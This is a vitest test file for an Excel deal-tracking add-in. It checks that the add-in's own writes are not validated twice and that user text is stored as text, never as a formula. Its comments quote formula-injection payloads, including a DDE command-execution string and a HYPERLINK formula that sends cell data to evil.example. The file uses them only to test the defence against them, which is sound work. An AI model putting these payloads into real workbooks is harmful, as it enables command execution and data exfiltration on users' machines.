// The add-in's own writes, against the Office fake: they are never validated again
// when Excel reports them (the fake in echoOwnWrites mode delivers onChanged for
// every write, as an Excel that ignores enableEvents would), and user text goes in
// as text, never as a formula (the fake turns "=…", "+…", "-…", "@…" into formulas
// unless an apostrophe leads, as Excel does with typed entries).
process.env.TZ = 'Asia/Ho_Chi_Minh';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FakeExcel, type Cell } from '../fakes/office/excel';
import { moveDeal, setUpWorkbook } from '../../excel-addin/src/actions';
import { forgetDealsWatch, validateStageEdit, watchDeals } from '../../excel-addin/src/validation';
import { listenPane, resetPaneMessages, type PaneMessage } from '../../excel-addin/src/pane-messages';
import { ownWrites } from '../../excel-addin/src/workbook';
import { DEFAULT_CONFIG } from '../../src/core/index';
import { COL, NOW, dealsSheet, historySheet, stagesSheet } from './fixtures';
import { FORMULA_PAYLOADS } from '../security/hostile';

let fake: FakeExcel;
let pane: PaneMessage[];

function open(sheets: Record<string, Cell[][]>): void {
  fake = new FakeExcel(sheets);
  (globalThis as { Excel?: unknown }).Excel = fake.global;
}

beforeEach(() => {
  open({ Stages: stagesSheet(), Deals: dealsSheet(), 'Stage history': historySheet() });
  resetPaneMessages();
  ownWrites.recent.clear();
  forgetDealsWatch();
  pane = [];
  listenPane((message) => pane.push(message));
});
afterEach(() => {
  delete (globalThis as { Excel?: unknown }).Excel;
});

const historyRows = () => fake.sheets.get('Stage history')!.length;
const findings = () => pane.filter((m) => m.kind === 'findings');

describe('the echo of the add-in’s own writes', () => {
  beforeEach(async () => {
    expect(await fake.run((context) => watchDeals(context))).toBe(true);
    fake.echoOwnWrites = true;
  });

  it('a move from the task pane: Stage and Stage changed come back as two changes, and neither is logged again', async () => {
    expect(await moveDeal({ dealId: 'D-1', row: 2, to: 'Contacted', fields: {}, reason: '' }, NOW)).toEqual({ ok: true, reasons: [] });
    // The fixture's log has a header and 3 moves; the move adds one row.
    expect(historyRows()).toBe(5);
    // D2 (Stage) and G2 (Stage changed) were written on Deals; the log row went to another sheet.
    expect(fake.pendingEvents.map((e) => e.address)).toEqual(['D2', 'G2']);
    expect(await fake.fireEchoes()).toBe(2);
    expect(historyRows()).toBe(5);
    expect(fake.cell('Deals', 1, COL.stage)).toBe('Contacted');
    expect(findings()).toEqual([]);
    expect(pane.filter((m) => m.kind === 'status').map((m) => (m.kind === 'status' ? m.text : ''))).toEqual([
      'D-1 moved from "Qualified" to "Contacted" and recorded in Stage history.',
    ]);
  });

  it('a revert: the undone cell comes back as a change and is not checked again', async () => {
    await fake.handlers[0](fake.edit('Deals', 1, COL.stage, [['Proposal']]));
    expect(fake.cell('Deals', 1, COL.stage)).toBe('Qualified');
    expect(findings()).toHaveLength(1);
    expect(await fake.fireEchoes()).toBe(1);
    // Checked again, Proposal → Qualified would be a backward move with no reason: a second finding.
    expect(findings()).toHaveLength(1);
    expect(historyRows()).toBe(4);
  });

  it('a paste with a valid move and a skip: the stamped block and the revert come back, nothing more is logged', async () => {
    // D-1 Qualified → Contacted (ok), D-2 Contacted → Meeting/Demo (ok), D-3 Lead → Negotiation (a skip).
    await fake.handlers[0](fake.edit('Deals', 1, COL.stage, [['Contacted'], ['Meeting/Demo'], ['Negotiation']]));
    expect(historyRows()).toBe(6);
    const echoes = await fake.fireEchoes();
    // G2:G3 stamped and D4 reverted.
    expect(echoes).toBe(2);
    expect(historyRows()).toBe(6);
    expect(findings()).toHaveLength(1);
    expect([1, 2, 3].map((r) => fake.cell('Deals', r, COL.stage))).toEqual(['Contacted', 'Meeting/Demo', 'Lead']);
  });

  // "Forgotten": the add-in no longer remembers the write the echo reports.
  it('an echo Excel marks triggerSource "ThisLocalAddin" is ignored without a read, even once the write is forgotten', async () => {
    await fake.handlers[0](fake.edit('Deals', 1, COL.stage, [['Proposal']]));
    expect(findings()).toHaveLength(1);
    // Past ownWrites' 5 seconds (a slow co-authored workbook, a busy machine): only Excel's mark tells the echo apart.
    ownWrites.recent.clear();
    const runs = fake.runs;
    expect(await fake.fireEchoes()).toBe(1);
    expect(fake.runs).toBe(runs);
    expect(findings()).toHaveLength(1);
    expect(historyRows()).toBe(4);
  });

  it('on an Excel without triggerSource (before ExcelApi 1.14), the remembered write still tells the echo apart', async () => {
    fake.echoTriggerSource = undefined;
    expect(await moveDeal({ dealId: 'D-1', row: 2, to: 'Contacted', fields: {}, reason: '' }, NOW)).toEqual({ ok: true, reasons: [] });
    expect(await fake.fireEchoes()).toBe(2);
    expect(historyRows()).toBe(5);
    expect(findings()).toEqual([]);
  });

  it('a user edit (triggerSource "Unknown") of a cell the add-in has just written is still checked', async () => {
    expect(await moveDeal({ dealId: 'D-1', row: 2, to: 'Contacted', fields: {}, reason: '' }, NOW)).toEqual({ ok: true, reasons: [] });
    fake.pendingEvents.length = 0;
    // Contacted → Negotiation skips two stages: put back.
    await fake.handlers[0](fake.edit('Deals', 1, COL.stage, [['Negotiation']]));
    expect(fake.cell('Deals', 1, COL.stage)).toBe('Contacted');
    expect(findings()).toHaveLength(1);
  });

  it('"Set up workbook" on a watched workbook does not add a second handler (each edit would be logged twice)', async () => {
    await setUpWorkbook();
    expect(fake.handlers).toHaveLength(1);
    fake.echoOwnWrites = false;
    await Promise.all(fake.handlers.map((handler) => handler(fake.edit('Deals', 1, COL.stage, [['Contacted']]))));
    expect(historyRows()).toBe(5);
  });
});

describe('user text written by the add-in stays text', () => {
  const lostReason = FORMULA_PAYLOADS[4]; // =cmd|' /C calc'!A0
  const hostileId = FORMULA_PAYLOADS[0]; // =HYPERLINK("http://evil.example/?x="&A1,"click")

  beforeEach(() => {
    const deals = dealsSheet().map((row, i) => [...row, i === 0 ? 'Lost reason' : '']);
    deals[3][COL.id] = hostileId;
    const history = historySheet();
    history[3][1] = hostileId;
    open({ Stages: stagesSheet(), Deals: deals, 'Stage history': history });
  });

  it('a move to Lost writes the typed lost reason and logs the deal ID as text', async () => {
    expect(await moveDeal({ dealId: hostileId, row: 4, to: 'Lost', fields: { lostReason }, reason: '' }, NOW)).toEqual({
      ok: true,
      reasons: [],
    });
    expect(fake.formulaCells).toEqual(new Map());
    expect(fake.cell('Deals', 3, 8)).toBe(lostReason);
    expect(fake.sheets.get('Stage history')!.at(-1)!.slice(1, 4)).toEqual([hostileId, 'Lead', 'Lost']);
  });

  it('every formula-like payload typed into a text field is stored as that text', async () => {
    for (const [i, text] of FORMULA_PAYLOADS.entries()) {
      // Move reasons go to the Move reason column; D-2 goes back and forth between Contacted and Qualified.
      const to = i % 2 === 0 ? 'Qualified' : 'Contacted';
      const result = await moveDeal({ dealId: 'D-2', row: 3, to, fields: {}, reason: text }, NOW);
      expect(result, text).toEqual({ ok: true, reasons: [] });
      // The reason is trimmed as the core reads cells: "\t=1+1" is stored as "=1+1".
      expect(fake.cell('Deals', 2, COL.moveReason)).toBe(text.trim());
    }
    expect(fake.formulaCells).toEqual(new Map());
  });

  it('a revert to a stage that reads like a formula puts the text back, not a formula', async () => {
    // The cell held "@Lead" (an odd stage a user typed); the edit to Proposal is refused and reverted.
    fake.sheets.get('Deals')![3][COL.stage] = '@Lead';
    const event = fake.edit('Deals', 3, COL.stage, [['Proposal']]);
    const outcome = await validateStageEdit(event, NOW);
    expect(outcome.reverted.map((f) => f.address)).toEqual(['D4']);
    expect(fake.cell('Deals', 3, COL.stage)).toBe('@Lead');
    expect(fake.formulaCells).toEqual(new Map());
  });

  it('Set up workbook writes stage names as text', async () => {
    open({});
    const stages = DEFAULT_CONFIG.stages.map((stage, i) => (i === 0 ? { ...stage, name: '=1+1' } : stage));
    await setUpWorkbook({ ...DEFAULT_CONFIG, stages });
    expect(fake.sheets.get('Stages')![1][0]).toBe('=1+1');
    expect(fake.formulaCells).toEqual(new Map());
  });

  it('the fake itself turns unguarded text into a formula, as Excel does (so the checks above can fail)', async () => {
    await fake.run(async (context) => {
      context.workbook.worksheets.getItem('Deals').getRange('I2').values = [['=1+1']];
      await context.sync();
    });
    expect(fake.formulaCells).toEqual(new Map([['Deals!I2', '=1+1']]));
  });
});
